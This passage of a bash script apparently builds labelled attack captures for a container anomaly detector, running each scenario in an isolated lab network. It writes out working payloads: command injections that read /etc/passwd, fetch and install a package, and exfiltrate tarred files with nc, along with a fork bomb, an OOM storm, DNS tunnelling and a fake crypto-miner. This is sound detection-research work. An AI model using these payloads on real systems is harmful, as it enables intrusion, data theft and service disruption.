# (and id, uname, cat, ls, ps) in a workload whose clean runs only ever run httpd.
scenario_shell_in_api() {
	local url="http://$API_IP/cgi-bin/debug?cmd="
	begin_capture shell-in-api 30
	at 0.3
	start_roles 200 1.0
	at 1.2
	start_client 200 0.55 0
	at 5.0
	log "[$NAME] GET /cgi-bin/debug on api: id; uname -a; cat /etc/passwd"
	attack debug1 "$url$(urlencode 'id; uname -a; cat /etc/passwd; sleep 5; echo done')"
	at 10.0
	log "[$NAME] GET /cgi-bin/debug on api: ls; ps"
	attack debug2 "$url$(urlencode 'ls -la /srv /app /tmp; ps; sleep 4; echo done')"
	at 16
	stop_capture
	grep -q 'uid=0(root)' "$WORK/debug1.out" || die "the debug CGI did not run id"
	[[ $(snaps_with api sh) -ge 2 ]] || die "too few snapshots show sh in api"
	pack_capture "shell-in-api: the clean workloads, plus two requests from $HOSTADDR to api's leftover /cgi-bin/debug?cmd=..., which runs the command through sh in api (id, uname -a, cat /etc/passwd, then ls, ps): a shell in a workload whose clean runs never run one."
}

# package-manager: the injection of make-samples.sh in web's CGI health check runs
# dpkg -l and rpm -qa (busybox rpm has no -qa: it fails, as on a Debian image), then
# fetches a small .deb from the host side and installs it with dpkg -i.
scenario_package_manager() {
	local payload
	begin_capture package-manager 30
	at 0.3
	start_roles 200 1.0
	start_tools
	at 1.2
	start_client 200 0.55 1
	at 5.0
	log "[$NAME] injection in web's /cgi-bin/check: dpkg -l; rpm -qa; dpkg -i"
	payload="$API_IP/; dpkg -l; rpm -qa; wget -q -O /tmp/netdiag.deb http://$HOSTADDR:8000/netdiag.deb; dpkg -i /tmp/netdiag.deb; rm -f /tmp/netdiag.deb #"
	attack inject "http://$WEB_IP/cgi-bin/check?host=$(urlencode "$payload")"
	wait "${PIDS[inject]}" || true
	at 15
	stop_capture
	grep -q 'Setting up netdiag' "$WORK/inject.out" || die "dpkg -i did not run"
	[[ $(snaps_with web dpkg) -ge 2 ]] || die "too few snapshots show dpkg in web"
	pack_capture "package-manager: the clean workloads, plus a command injection from $HOSTADDR in web's /cgi-bin/check that runs dpkg -l and rpm -qa, fetches netdiag.deb from $HOSTADDR:8000 and installs it with busybox dpkg -i (its postinst takes 5 s) inside the running web."
}

# The fork bomb, run by the worker's batch as its task: six seconds of bomb, then a
# cleaner that needs no fork (read -t, kill are shell builtins) kills everything but
# the batch (PID 1). The pids limit (64) bounds it; the container's --timeout and the
# EXIT trap are the backstops.
FORK_TASK="mkfifo /tmp/.tick; sh -c 'f(){ f|f& }; f' 2>/dev/null & read -t 6 x <>/tmp/.tick; n=0; while [ \$n -lt 30 ]; do kill -9 -1 2>/dev/null; read -t 0.1 x <>/tmp/.tick; n=\$((n + 1)); done; rm -f /tmp/.tick"

# pids_max NAME: the "max" count of pids.events of container NAME.
pids_max() {
	awk '$1 == "max" { print $2 }' \
		"/sys/fs/cgroup/pids/libpod_parent/libpod-${IDS[$1]}/pids.events"
}

# bomb_over: the pids limit was hit many times, and the worker is back to a few
# processes. Dies when the worker is gone.
bomb_over() {
	local dir=/sys/fs/cgroup/pids/libpod_parent/libpod-${IDS[worker]} cur max
	[[ -r $dir/pids.current ]] || die "worker is gone: $(
		"${PODMAN[@]}" inspect -f '{{.State.Status}} {{.State.ExitCode}} {{.State.Error}}' worker 2>&1)"
	cur=$(cat "$dir/pids.current")
	max=$(pids_max worker)
	((max > 50 && cur <= 5))
}

scenario_fork_bomb() {
	local max
	begin_capture fork-bomb 30
	at 0.3
	start_roles 200 1.0 4 "$FORK_TASK"
	at 1.2
	start_client 200 0.55 2
	wait_until 40 bomb_over || log "[$NAME] the bomb did not end in time"
	at 17
	stop_capture
	max=$(pids_max worker)
	log "[$NAME] worker: pids.events max $max, most processes in a snapshot $(most_procs worker)"
	((max > 50)) || die "the pids limit was hardly hit ($max)"
	[[ $(most_procs worker) -ge 30 ]] || die "no snapshot shows the bomb"
	[[ $(cat "/sys/fs/cgroup/pids/libpod_parent/libpod-${IDS[worker]}/pids.current") -le 5 ]] ||
		die "the bomb was not cleaned up"
	pack_capture "fork-bomb: the clean workloads, but at its 5th round worker's batch job runs a fork bomb (sh -c 'f(){ f|f& }; f') for 6 s under --pids-limit 64, then kills it with shell builtins (kill -9 -1); pids.events max counts every refused fork; the batch, PID 1, stays up."
}

# Six memory hogs, one after another, each growing an awk string by 4 MB per step
# (at most 80 MB) until the memory cgroup's OOM killer ends it. Each hog marks
# itself the first to go (oom_score_adj 1000, as browsers mark their renderers):
# when a second allocation fails before the last victim's memory is back, the
# killer would otherwise pick the batch, the container's PID 1.
OOM_TASK="n=0; while [ \$n -lt 6 ]; do (echo 1000 >/proc/self/oom_score_adj; exec awk 'BEGIN { b = sprintf(\"%4194304s\", \"\"); for (i = 0; i < 20; i++) { a = a b; system(\"sleep 0.05\") } }'); sleep 0.6; n=\$((n + 1)); done"

# oom_kills NAME: the memory cgroup OOM kills in container NAME since the capture
# started, from the kernel log.
oom_kills() {
	mkdir -p "$WORK/probe"
	cap_dmesg "$WORK/probe" "$UP0" "$(cap_uptime)"
	grep -c "oom-kill:.*oom_memcg=/libpod_parent/libpod-${IDS[$1]}" \
		"$WORK/probe/events/dmesg.txt" || true
}

# all_hogs_killed: six kills. Dies when the worker is gone.
all_hogs_killed() {
	[[ -d /sys/fs/cgroup/memory/libpod_parent/libpod-${IDS[worker]} ]] ||
		die "worker is gone after $(oom_kills worker) OOM kills"
	(($(oom_kills worker) >= 6))
}

scenario_oom_storm() {
	local kills
	begin_capture oom-storm 30
	at 0.3
	start_roles 200 1.0 3 "$OOM_TASK"
	at 1.2
	start_client 200 0.55 3
	wait_until 40 all_hogs_killed || log "[$NAME] not all hogs were killed in time"
	at 15
	stop_capture
	cap_dmesg "$BUNDLE" "$UP0" "$UP1"
	kills=$(grep -c "oom-kill:.*oom_memcg=/libpod_parent/libpod-${IDS[worker]}" "$BUNDLE/events/dmesg.txt" || true)
	log "[$NAME] memcg OOM kills in worker: $kills"
	((kills >= 4)) || die "fewer than 4 OOM kills in worker"
	[[ $("${PODMAN[@]}" inspect -f '{{.State.Status}}' worker) == running ]] ||
		die "worker did not stay up"
	pack_capture "oom-storm: the clean workloads, but from its 4th round worker's batch job (--memory 32m) runs six memory hogs one after another (awk growing a string by 4 MB per step, oom_score_adj 1000), each killed by the memory cgroup OOM killer ($kills kills); worker stays up."
}

# 60 queries with 48 hex characters of random bytes as the first label, numbered,
# under t.exfil.test (answered by dnsmasq, as the attacker's name server would).
TUNNEL_TASK="n=0; while [ \$n -lt 60 ]; do h=\$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \\n'); nslookup -type=a \"\$h.\$n.t.exfil.test\" >/dev/null 2>&1; n=\$((n + 1)); sleep 0.1; done"

tunnel_queries() {
	grep -cE "query\\[A\\] [0-9a-f]{48}\\.[0-9]+\\.t\\.exfil\\.test from $CLIENT_IP" \
		"$WORK/dnsmasq-$NAME.err" || true
}

tunnel_done() { (($(tunnel_queries) >= 60)); }

scenario_dns_tunnel() {
	local n
	begin_capture dns-tunnel 30
	at 0.3
	start_roles 200 1.0
	at 1.2
	start_client 200 0.55 4 6 "$TUNNEL_TASK"
	wait_until 40 tunnel_done || log "[$NAME] the tunnel did not end in time"
	at 17
	stop_capture
	n=$(tunnel_queries)
	log "[$NAME] tunnel queries seen by dnsmasq: $n"
	((n >= 55)) || die "too few tunnel queries"
	pack_capture "dns-tunnel: the clean workloads, plus, from its 7th round, client sends 60 DNS queries (one every ~0.15 s) named <48 hex digits of random bytes>.<n>.t.exfil.test to dnsmasq on $HOSTADDR (answered $TUNNELADDR), among its normal queries."
}

# exfiltration: the CGI injection in web tars the container's files, then sends the
# archive five times (~10 MB) in 64 KB pieces, paced (~8 s), to nc on the host side.
# upload_done: the listener has received something, and nothing more for a second.
SINK_SEEN=0
upload_done() {
	local now
	now=$(stat -c %s "$WORK/sink.out")
	if ((now > 0 && now == SINK_SEEN)); then
		return 0
	fi
	SINK_SEEN=$now
	sleep 0.5
	return 1
}

scenario_exfiltration() {
	local payload bytes
	begin_capture exfiltration 30 128 60000
	at 0.3
	start_roles 200 1.0
	# shellcheck disable=SC2016 # arguments of the inner bash
	spawn sink bash -c 'sleep 40 | timeout --foreground 40 busybox nc -l -p 9000 "$1"' \
		salvage-sink "$HOSTADDR"
	wait_listen 9000 tcp
	at 1.2
	start_client 200 0.55 5
	at 5.0
	log "[$NAME] injection in web's /cgi-bin/check: tar | nc $HOSTADDR 9000"
	payload="$API_IP/; cd /tmp; tar cf .c.tar /bin/busybox /www /etc; n=\$((\$(wc -c <.c.tar) / 65536 + 1)); (r=0; while [ \$r -lt 5 ]; do i=0; while [ \$i -lt \$n ]; do dd if=.c.tar bs=65536 skip=\$i count=1 2>/dev/null; sleep 0.03; i=\$((i + 1)); done; r=\$((r + 1)); done | timeout 20 nc $HOSTADDR 9000; rm -f .c.tar) </dev/null >/dev/null 2>&1 & #"
	attack inject "http://$WEB_IP/cgi-bin/check?host=$(urlencode "$payload")"
	wait_until 40 upload_done || log "[$NAME] the upload did not end in time"
	at 16
	stop_capture
	bytes=$(stat -c %s "$WORK/sink.out")
	log "[$NAME] the listener received $bytes bytes"
	((bytes > 9000000)) || die "too little was sent"
	pack_capture "exfiltration: the clean workloads, plus a command injection from $HOSTADDR in web's /cgi-bin/check that tars web's files (/bin/busybox, /www, /etc) and sends the archive five times, $bytes bytes in 64 KB pieces over ~8 s, with nc to $HOSTADDR:9000; tcpdump snap length 128."
}

# The fake miner the worker fetches: resolves its pool, logs in over Stratum (xmrig's
# dialect: login, then a share submitted), and burns CPU in a child for 12 s.
write_miner() {
	cat >"$1" <<'EOF'
#!/bin/sh
# stand-in for xmrig: finds its pool by name, logs in, submits, burns CPU
pool=$(nslookup -type=a pool.minexmr.test 2>/dev/null |
	awk '/^Address/ && $NF !~ /:53$/ { a = $NF } END { print a }')
[ -n "$pool" ] || exit 1
burn() {
	end=$(($(date +%s) + 12))
	while [ "$(date +%s)" -lt "$end" ]; do
		i=0
		while [ "$i" -lt 20000 ]; do i=$((i + 1)); done
	done
}
burn &
{
	echo '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4BSa1vageDemoWa11etNotARea1AddressXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX","pass":"x","agent":"xmrig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}'
	sleep 4
	echo '{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"a3f1c2d4","job_id":"j1","nonce":"2f1d0000","result":"e2c8a1b4f09d7c3a5b6e8f1a2c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5"}}'
	sleep 7
} | timeout 13 nc "$pool" 3333
wait
EOF
}

# The pool: answers the login with a job and the share with OK (busybox nc -l -e).
write_pool() {
	cat >"$1" <<EOF
#!/bin/sh
read -r line && printf '%s\n' "\$line" >>"$WORK/pool.log"
echo '{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"a3f1c2d4","job":{"blob":"1010c0e0c8a506b1f3d4e5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e600000000a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6071829304","job_id":"j1","target":"b88d0600","algo":"rx/0","height":3100000,"seed_hash":"7c3a5b6e8f1a2c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5e2c8a1b4f09d"},"extensions":["algo","keepalive"],"status":"OK"}}'
read -r line && printf '%s\n' "\$line" >>"$WORK/pool.log"
echo '{"id":2,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}'
sleep 8
EOF
	chmod 755 "$1"
}

# start_tools: the host side's file server on :8000 (the miner, the .deb).
start_tools() {
	local www=$WORK/tools p=$WORK/netdiag
	mkdir -p "$www" "$p/DEBIAN" "$p/usr/bin"
	write_miner "$www/xmrig"
	chmod 755 "$www/xmrig"
	printf 'Package: netdiag\nVersion: 1.0-1\nArchitecture: all\nMaintainer: ops <ops@internal.test>\nDescription: network diagnostics\n' \
		>"$p/DEBIAN/control"
	# a postinst that takes a few seconds, as real ones do: dpkg stays up long
	# enough for the 1-s snapshots to see it
	printf '#!/bin/sh\necho "configuring netdiag"\nsleep 5\n' >"$p/DEBIAN/postinst"
	# shellcheck disable=SC2016 # the tool's own $1
	printf '#!/bin/sh\nping -c 1 "$1"\n' >"$p/usr/bin/netdiag"
	chmod 755 "$p/DEBIAN/postinst" "$p/usr/bin/netdiag"
	dpkg-deb -Zgzip --root-owner-group --build "$p" "$www/netdiag.deb" >/dev/null
	spawn tools timeout --foreground 60 busybox httpd -f -p "$HOSTADDR:8000" -h "$www"
	wait_listen 8000 tcp
}

# The worker's task: fetch the miner (retrying while the host side comes up: on a
# busy machine the worker may reach its 5th round first) and run it.
MINER_TASK="n=0; until timeout 3 wget -q -O /tmp/xmrig http://$HOSTADDR:8000/xmrig; do n=\$((n + 1)); [ \$n -lt 40 ] || exit 1; sleep 1; done; chmod +x /tmp/xmrig && /tmp/xmrig"

scenario_miner() {
	begin_capture miner 30
	write_pool "$WORK/pool.sh"
	at 0.3
	start_roles 200 1.0 4 "$MINER_TASK"
	# the pool first: the miner connects as soon as it has been fetched
	spawn pool timeout --foreground 40 busybox nc -l -p 3333 "$POOLADDR" -e "$WORK/pool.sh"
	wait_listen 3333 tcp "$POOLADDR"
	start_tools
	at 1.2
	start_client 200 0.55 0
	wait_until 30 grep -qs '"method":"submit"' "$WORK/pool.log" ||
		log "[$NAME] the miner did not submit in time"
	at 18
	stop_capture
	grep -q '"method":"login"' "$WORK/pool.log" || die "the miner did not log in"
	grep -q '"method":"submit"' "$WORK/pool.log" || die "the miner did not submit"
	grep -q 'query\[A\] pool\.minexmr\.test' "$WORK/dnsmasq-$NAME.err" || die "no pool lookup"
	[[ $(snaps_with worker xmrig) -ge 5 ]] || die "too few snapshots show xmrig in worker"
	pack_capture "miner: the clean workloads, but at its 5th round worker's batch job (--cpus 0.5) fetches /tmp/xmrig from $HOSTADDR:8000 and runs it: it resolves pool.minexmr.test through dnsmasq ($POOLADDR, a second host-side address), logs in to $POOLADDR:3333 over Stratum (xmrig dialect: login with agent xmrig/6.21.0, then submit) and burns CPU at the limit for 12 s."
}

# privileged: next to the workloads, an operator's "debug" container started
# privileged, in the host's pid namespace, with the host's root mounted read-only:
# all it would need to leave the container (it only sleeps).
scenario_privileged() {
	begin_capture privileged 30
	at 0.3
	start_roles 200 1.0
	at 1.2
	start_client 200 0.6 0
	at 4.0
	log "[$NAME] a privileged debug container: --pid host, / mounted at /host"
	run_container debug --ip "$DEBUG_IP" --timeout 60 --privileged --pid host \
		-v /:/host:ro localhost/salvage-api:1 sleep 20
	at 14
	stop_capture
	EXPECT_INSPECTS=5
	pack_capture "privileged: the clean workloads, plus a container 'debug' (image salvage-api, running sleep) started with --privileged, --pid host and the host's / mounted read-only at /host: everything a process needs to escape to the host."
	EXPECT_INSPECTS=4
}

# ---------------------------------------------------------------- main --------------

parse_args() {
	local a s ok
	for a; do
		if [[ $a == --keep ]]; then
			KEEP=1
			continue
		fi
		ok=0
		for s in "${ALL_SCENARIOS[@]}"; do [[ $a == "$s" ]] && ok=1; done
		((ok)) || die "unknown scenario '$a' (one of: ${ALL_SCENARIOS[*]})"
		SCENARIOS+=("$a")
	done
	((${#SCENARIOS[@]})) || SCENARIOS=("${ALL_SCENARIOS[@]}")
}

run_scenario() {
	case $1 in
	clean-*) scenario_clean "$1" ;;
	*) "scenario_${1//-/_}" ;;
	esac
}

parse_args "$@"
for tool in tcpdump busybox zstd dnsmasq dpkg-deb ss; do
	command -v "$tool" >/dev/null || die "$tool is missing"
done
cleanup_leftovers
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
mkdir -p "$STATE"
echo "$MAIN_PID $(proc_start "$MAIN_PID")" >"$STATE/main"
cat /proc/sys/net/ipv4/ip_forward >"$STATE/ip_forward"
WORK=$(mktemp -d /tmp/salvage-detect.XXXXXX)
echo "$WORK" >"$STATE/workdir"
STAGE=$WORK/stage
mkdir -p "$STAGE"

for role in web api client worker; do
	build_image "$role"
done
pm network create --internal --disable-dns --subnet "$SUBNET" --label "$LABEL" "$NET" >/dev/null

for s in "${SCENARIOS[@]}"; do
	run_scenario "$s"
done
total=$(cat "$OUT"/*.tar.zst | wc -c)
((total < MAX_TOTAL)) || die "samples/detect/ holds $total bytes (limit $MAX_TOTAL)"
log "done: ${#SCENARIOS[@]} bundles; samples/detect/ holds $total bytes"
